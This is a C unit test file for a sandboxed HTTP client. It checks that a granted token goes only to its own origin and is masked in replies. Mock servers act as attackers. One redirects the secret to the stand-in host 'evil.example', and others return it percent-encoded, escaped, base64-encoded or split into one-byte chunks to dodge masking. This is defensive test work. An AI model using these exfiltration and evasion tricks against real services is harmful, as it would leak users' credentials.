/* Secrets on the wire: sent to their one origin and to nobody else, and masked
 * in whatever a hostile server makes of them. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "net/http_json.h"
#include "net/support_web.h"
#include "policy/grant.h"
#include "policy/secret.h"

#define VALUE "hunter2/hunter2"
#define STARS "***************"
#define PUBLIC "93.184.216.34" /* routed to the test's own server */
#define GET(path) ((web_ask){ .url = (path) })

/* ---- a server that knows the value ---------------------------------- */

#define OK "HTTP/1.1 200 OK\r\n"

static const char *const spellings[] = {
    VALUE,
    "hunter2%2Fhunter2",
    "%68unter2%2fhunter%32",
    "hunter2\\/hunter2",
    "\\u0068unter2\\/hunter2",
    /* base64 of the value, in the middle of which nothing else shows */
    "aHVudGVyMi9odW50ZXIy",
};
#define SPELLINGS (sizeof(spellings) / sizeof(spellings[0]))

/* /spell/N: one spelling, byte by byte in chunks of their own. */
static bool send_pieces(support_conn *conn, const char *text)
{
    if (!support_sendf(conn, OK "Transfer-Encoding: chunked\r\n\r\n2\r\n<<"
                                "\r\n"))
        return false;
    for (; *text != '\0'; text++) {
        if (!support_sendf(conn, "1\r\n%c\r\n", *text))
            return false;
    }
    return support_sendf(conn, "2\r\n>>\r\n0\r\n\r\n");
}

static bool handle(support_conn *conn, const support_request *request,
                   void *context)
{
    const char *target = request->target;

    (void)context;
    if (strncmp(target, "/spell/", 7) == 0)
        return send_pieces(conn, spellings[atoi(target + 7)]);
    if (strcmp(target, "/prefix") == 0)
        return support_sendf(conn, OK "Content-Length: 9\r\n\r\n<<hunter2");
    if (strcmp(target, "/cut") == 0)
        return support_sendf(conn,
                             OK "Content-Length: 99\r\n\r\nabchunter2/h") &&
               false;
    if (strcmp(target, "/head") == 0)
        return support_sendf(conn,
                             OK "X-Echo: <" VALUE ">\r\nX-Fold: hunter2/\r\n"
                                "  x\r\nContent-Length: 0\r\n\r\n");
    if (strncmp(target, "/leak/", 6) == 0)
        return support_sendf(conn,
                             "HTTP/1.1 302 Go\r\nLocation: %s" VALUE
                             "\r\nContent-Length: 0\r\n\r\n",
                             target + 6);
    return support_sendf(conn, OK "Content-Length: 5\r\n\r\nhello");
}

/* A second server at a port of its own; *ret_url is its URL of a path. */
static support_server *other_server(char url[64], const char *path)
{
    support_server *server = support_server_start(handle, NULL, NULL);

    snprintf(url, 64, "http://127.0.0.1:%u%s", support_server_port(server),
             path);
    return server;
}

/* ---- the policy ----------------------------------------------------- */

static void ask_secret(support_web *web, const char *host, const char *header,
                       const char *format)
{
    bx_autogrants bx_grants *grants = bx_grants_new();

    assert_int_equal(bx_grants_add(grants, "network:*", NULL, NULL), 0);
    assert_int_equal(
        bx_grants_add_secret(grants, "TOKEN", host, header, format, NULL, NULL),
        0);
    assert_int_equal(bx_policy_narrow(web->policy, grants, "manifest", NULL),
                     0);
    web_renew_client(web);
}

/* For the web's own server. */
static void use_secret(support_web *web)
{
    ask_secret(web, web_url(web, "127.0.0.1", ""), NULL, NULL);
}

static int set_up(void **state)
{
    support_web *web;

    setenv("TOKEN", VALUE, 1);
    if (web_open(state) != 0)
        return -1;
    web = *state;
    web_set(web, "secret", "TOKEN");
    return 0;
}

/* Through a broker, the value never reached the run's side. */
static int tear_down(void **state)
{
    support_web *web = *state;
    const bx_buf *answers =
        web->broker == NULL ? NULL : support_broker_answers(web->broker);

    if (answers != NULL && answers->len > 0 && web->policy->mask != NULL)
        assert_null(memmem(answers->data, answers->len, VALUE, strlen(VALUE)));
    return web_close(state);
}

static unsigned count(const char *text, const char *part)
{
    unsigned found = 0;

    for (; (text = strstr(text, part)) != NULL; text++)
        found++;
    return found;
}

/* How often did the server get the value? */
static void expect_sent(support_server *server, unsigned times)
{
    char *heads = support_server_heads(server);

    assert_int_equal(count(heads, VALUE), times);
    free(heads);
}

static const char *redirect_to(const char *url)
{
    static char path[256];

    snprintf(path, sizeof(path), "/redirect/302/%s", url);
    return path;
}

/* ---- sent ----------------------------------------------------------- */

static void is_sent_to_its_origin(void **state)
{
    support_web *web = *state;
    web_reply reply;

    use_secret(web);
    reply = web_fetch(web, GET("/echo"));
    assert_null(reply.err);
    assert_non_null(
        strstr(reply.body.data, "Authorization: Bearer " STARS "\r\n"));
    expect_sent(web->server, 1);
    web_reply_clear(&reply);
}

static void is_sent_nowhere_unless_asked_for(void **state)
{
    support_web *web = *state;

    web_expect_body(web, GET("/hello"), "hello");
    expect_sent(web->server, 0);
}

static void is_sent_as_the_manifest_says(void **state)
{
    support_web *web = *state;
    char *heads;

    ask_secret(web, web_url(web, "127.0.0.1", ""), "X-Api-Key", "key={};v=1");
    web_expect_body(web, GET("/hello"), "hello");
    heads = support_server_heads(web->server);
    assert_non_null(strstr(heads, "X-Api-Key: key=" VALUE ";v=1\r\n"));
    assert_null(strstr(heads, "Authorization"));
    free(heads);
}

static void replaces_the_guests_own_header(void **state)
{
    static const char *const fields[] = { "AUTHORIZATION",
                                          "mine",
                                          "authorization",
                                          "also mine",
                                          "X-Mine",
                                          "1",
                                          NULL };
    support_web *web = *state;
    char *heads;

    use_secret(web);
    web_expect_body(web, (web_ask){ .url = "/hello", .fields = fields },
                    "hello");
    heads = support_server_heads(web->server);
    assert_null(strstr(heads, "mine"));
    assert_non_null(strstr(heads, "X-Mine: 1"));
    assert_int_equal(count(heads, "uthorization:"), 1);
    assert_int_equal(count(heads, VALUE), 1);
    free(heads);
}

/* ---- sent nowhere else ---------------------------------------------- */

static void is_not_sent_to_another_port(void **state)
{
    support_web *web = *state;
    char url[64];
    support_server *other = other_server(url, "/x");

    use_secret(web);
    web_expect_body(web, GET(url), "hello");
    web_expect_body(web, GET(redirect_to(url)), "hello");
    expect_sent(other, 0);
    expect_sent(web->server, 1);
    support_server_stop(other);
}

static void is_not_sent_to_another_host(void **state)
{
    support_web *web = *state;

    web_set(web, "allowed-outbound-host", "http://*.test:*");
    web_set(web, "allowed-outbound-host", "http://localhost:*");
    support_names_set("a.test", PUBLIC);
    support_names_route(PUBLIC, web->port);
    use_secret(web);
    /* The same server by other names: three requests, one with the value. */
    web_expect_body(web, GET(redirect_to("http://a.test/hello")), "hello");
    expect_sent(web->server, 1);
    web_expect_body(web, GET(web_url(web, "localhost", "/hello")), "hello");
    expect_sent(web->server, 1);
    assert_int_equal(support_server_requests(web->server), 3);
}

static void is_sent_again_when_a_redirect_comes_back(void **state)
{
    support_web *web = *state;
    char url[64];
    char target[192];
    support_server *other = other_server(url, "");
    web_reply reply;

    use_secret(web);
    /* Away and back; what the other one puts into its redirect is masked. */
    snprintf(target, sizeof(target), "%s/leak/%s", url,
             web_url(web, "127.0.0.1", "/echo?t="));
    reply = web_fetch(web, GET(redirect_to(target)));
    assert_null(reply.err);
    assert_non_null(strstr(reply.body.data, "GET /echo?t=" STARS));
    assert_non_null(strstr(reply.body.data, "Bearer " STARS));
    expect_sent(other, 0);
    expect_sent(web->server, 2);
    web_reply_clear(&reply);
    support_server_stop(other);
}

/* A secret for https is not sent when the same host is asked over http. */
static void is_not_sent_in_the_clear(void **state)
{
    support_web *web = *state;
    char url[64];

    snprintf(url, sizeof(url), "https://127.0.0.1:%u", web->port);
    web_set(web, "allowed-outbound-host", "https://127.0.0.1:*");
    ask_secret(web, url, NULL, NULL);
    web_expect_body(web, GET("/hello"), "hello");
    expect_sent(web->server, 0);
}

static void is_not_sent_past_its_own_hosts(void **state)
{
    support_web *web = *state;

    web_set(web, "secret", "TOKEN@https://api.example");
    use_secret(web);
    web_expect_body(web, GET("/hello"), "hello");
    expect_sent(web->server, 0);
}

/* ---- coming back ---------------------------------------------------- */

static void is_masked_across_chunks(void **state)
{
    support_web *web = *state;
    char url[64];
    support_server *other = other_server(url, "");
    char path[128];
    char masked[64];

    ask_secret(web, url, NULL, NULL);
    for (size_t i = 0; i < SPELLINGS; i++) {
        snprintf(path, sizeof(path), "%s/spell/%zu", url, i);
        snprintf(masked, sizeof(masked), "<<%s>>", spellings[i]);
        memset(masked + 2, '*', strlen(spellings[i]));
        web_expect_body(web, GET(path), masked);
    }
    snprintf(path, sizeof(path), "%s/prefix", url);
    web_expect_body(web, GET(path), "<<hunter2");
    support_server_stop(other);
}

static void keeps_bodies_as_they_are_without_one(void **state)
{
    support_web *web = *state;
    char url[64];
    support_server *other = other_server(url, "/spell/0");

    web_expect_body(web, GET(url), "<<" VALUE ">>");
    support_server_stop(other);
}

/* What may begin the value never comes out when the connection is cut. */
static void keeps_back_the_end_of_a_cut_body(void **state)
{
    support_web *web = *state;
    char url[64];
    char path[80];
    support_server *other = other_server(url, "");
    web_reply reply;

    ask_secret(web, url, NULL, NULL);
    snprintf(path, sizeof(path), "%s/cut", url);
    reply = web_fetch(web, GET(path));
    assert_int_equal(bx_error_errno(reply.err), EPROTO);
    assert_string_equal(reply.body.data, "abc");
    web_reply_clear(&reply);
    support_server_stop(other);
}

static void is_masked_in_heads(void **state)
{
    support_web *web = *state;
    char url[64];
    char path[80];
    support_server *other = other_server(url, "");
    web_reply reply;

    ask_secret(web, url, NULL, NULL);
    snprintf(path, sizeof(path), "%s/head", url);
    reply = web_fetch(web, GET(path));
    assert_null(reply.err);
    assert_string_equal(bx_http_fields_find(&reply.fields, "x-echo")->value,
                        "<" STARS ">");
    web_reply_clear(&reply);
    snprintf(path, sizeof(path), "%s/leak/a?t=", url);
    reply = web_fetch(
        web, (web_ask){ .url = path, .redirect = BX_HTTP_REDIRECT_MANUAL });
    assert_null(reply.err);
    assert_string_equal(bx_http_fields_find(&reply.fields, "location")->value,
                        "a?t=" STARS);
    web_reply_clear(&reply);
    support_server_stop(other);
}

/* The server that has it sends it on to its friend, by way of the client. */
static void does_not_travel_in_a_redirect(void **state)
{
    support_web *web = *state;
    char friend_url[64];
    char url[64];
    char target[192];
    support_server *other;
    support_server *friend = other_server(friend_url, "/?t=");
    web_reply reply;

    other = other_server(url, "");
    ask_secret(web, url, NULL, NULL);
    snprintf(target, sizeof(target), "%s/leak/%s", url, friend_url);
    reply = web_fetch(web, GET(target));
    assert_null(reply.err);
    assert_true(reply.is_redirected);
    assert_null(strstr(reply.url, VALUE));
    expect_sent(friend, 0);
    expect_sent(other, 1);
    web_reply_clear(&reply);
    support_server_stop(other);
    support_server_stop(friend);
}

/* Neither the audit nor the guest's error shows it. */
static void is_in_no_refusal(void **state)
{
    support_web *web = *state;
    char url[64];
    char target[192];
    support_server *other = other_server(url, "");
    web_reply reply;

    ask_secret(web, url, NULL, NULL);
    snprintf(target, sizeof(target),
             "%s/leak/http://evil.example/%%2568?t=", url);
    reply = web_fetch(web, GET(target));
    assert_int_equal(bx_error_code(reply.err), BX_ERR_DENIED);
    assert_null(strstr(bx_error_message(reply.err), VALUE));
    assert_non_null(strstr(web->denials.data, "evil.example"));
    assert_null(strstr(web->denials.data, VALUE));
    assert_null(strstr(web->denials.data, "hunter2"));
    web_reply_clear(&reply);
    support_server_stop(other);
}

/* A layer below that asks for none does not inherit its caller's. */
static void is_the_last_layers_alone(void **state)
{
    support_web *web = *state;
    bx_autogrants bx_grants *callee = bx_grants_new();

    use_secret(web);
    assert_int_equal(bx_grants_add(callee, "network:*", NULL, NULL), 0);
    assert_int_equal(bx_policy_narrow(web->policy, callee, "callee", NULL), 0);
    web_renew_client(web);
    web_expect_body(web, GET("/hello"), "hello");
    expect_sent(web->server, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
#define TEST(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)
        TEST(is_sent_to_its_origin),
        TEST(is_sent_nowhere_unless_asked_for),
        TEST(is_sent_as_the_manifest_says),
        TEST(replaces_the_guests_own_header),
        TEST(is_not_sent_to_another_port),
        TEST(is_not_sent_to_another_host),
        TEST(is_sent_again_when_a_redirect_comes_back),
        TEST(is_not_sent_in_the_clear),
        TEST(is_not_sent_past_its_own_hosts),
        TEST(is_masked_across_chunks),
        TEST(keeps_bodies_as_they_are_without_one),
        TEST(keeps_back_the_end_of_a_cut_body),
        TEST(is_masked_in_heads),
        TEST(does_not_travel_in_a_redirect),
        TEST(is_in_no_refusal),
        TEST(is_the_last_layers_alone),
    };

    return support_run_every_way(tests, NULL, NULL);
}
